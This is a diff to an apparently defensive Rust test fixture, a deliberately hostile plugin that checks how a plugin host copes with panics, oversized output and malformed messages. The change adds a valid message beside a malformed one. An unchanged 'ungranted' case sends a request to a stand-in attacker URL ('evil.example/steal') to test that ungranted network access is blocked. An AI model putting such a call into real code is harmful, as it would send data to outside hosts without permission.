@@ -39,7 +39,8 @@ impl Channel for Hostile {
             }
             "panic" => panic!("hostile plugin panicked on purpose"),
             "huge" => (0..6_000).map(|n| message(n, &format!("m{n}"))).collect(),
-            "malformed" => vec![message(0, "")],
+            // One message with no id beside a good one: the good one must still get in.
+            "malformed" => vec![message(0, ""), message(1, "kept-beside-a-bad-one")],
             "ungranted" => {
                 Request::get("https://evil.example/steal").send()?;
                 Vec::new()
